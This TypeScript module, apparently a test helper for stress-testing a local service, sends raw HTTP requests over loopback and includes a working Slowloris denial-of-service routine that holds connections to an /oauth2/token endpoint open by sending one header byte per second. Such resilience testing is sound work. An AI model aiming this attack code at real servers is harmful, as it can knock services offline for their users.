import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

/** The status of a connection that ended before an answer. */
export const NO_ANSWER = 0;

const BYTE_EVERY_MS = 1_000;

/** The parts of an answer that the attackers need. */
export interface HttpAnswer {
  readonly status: number;
  /** Bytes of header section and body. */
  readonly length: number;
  /** Whether the server closes the connection after it. */
  readonly closes: boolean;
}

/** A keep-alive connection to loopback that sends raw requests and reads only the status of each answer, at the least possible cost. */
export class RawConnection {
  readonly #port: number;
  #socket: Socket | undefined;
  #received = '';
  #settle: (status: number) => void = () => {};

  constructor(port: number) {
    this.#port = port;
  }

  /** Sends one request, on a new connection if the previous one was closed. One at a time. */
  send(request: string): Promise<number> {
    return new Promise((resolve) => {
      this.#settle = resolve;
      this.#socket ??= this.#open();
      this.#socket.write(request, 'latin1');
    });
  }

  #open(): Socket {
    const socket = connect(this.#port, '127.0.0.1');
    socket.setNoDelay(true);
    socket.setEncoding('latin1');
    this.#received = '';
    socket.on('data', (text: string) => this.#take(text));
    // An error is always followed by 'close'.
    socket.on('error', () => {});
    socket.on('close', () => {
      if (this.#socket === socket) this.#end(NO_ANSWER);
    });
    return socket;
  }

  #take(text: string): void {
    this.#received += text;
    const answer = readHttpAnswer(this.#received);
    if (answer === undefined) return;
    this.#received = this.#received.slice(answer.length);
    if (answer.closes) this.#end(answer.status);
    else this.#settle(answer.status);
  }

  #end(status: number): void {
    this.#socket?.destroy();
    this.#socket = undefined;
    this.#settle(status);
  }
}

/**
 * The first answer in the received text, one character per byte; undefined until it is complete. Reads only answers with
 * Content-Length, the form in which the service answers, and throws for any other.
 */
export function readHttpAnswer(received: string): HttpAnswer | undefined {
  const headEnd = received.indexOf('\r\n\r\n');
  if (headEnd === -1) return undefined;
  const head = received.slice(0, headEnd).toLowerCase();
  const contentLength = /\r\ncontent-length: (\d+)/.exec(head)?.[1];
  if (contentLength === undefined) throw new Error('an answer without Content-Length');
  const length = headEnd + 4 + Number(contentLength);
  if (received.length < length) return undefined;
  return {
    status: Number(head.slice(9, 12)),
    length,
    closes: head.includes('\r\nconnection: close'),
  };
}

/** A Slowloris attack: opens one connection after another, each with a header section that never ends, one byte per second. */
export async function runSlowLoris(port: number, onEnd: (status: number) => void): Promise<never> {
  for (;;) {
    onEnd(await openSlowLoris(port));
    await delay(BYTE_EVERY_MS);
  }
}

/** Resolves with the status that the server ended the connection with. */
function openSlowLoris(port: number): Promise<number> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1');
    let received = '';
    socket.setEncoding('latin1');
    socket.write('POST /oauth2/token HTTP/1.1\r\nHost: a\r\nX-Slow: ');
    const timer = setInterval(() => socket.write('a'), BYTE_EVERY_MS);
    socket.on('data', (text) => {
      received += text;
    });
    socket.on('error', () => {});
    socket.on('close', () => {
      clearInterval(timer);
      resolve(Number(/^HTTP\/1\.1 (\d{3})/.exec(received)?.[1] ?? NO_ANSWER));
    });
  });
}
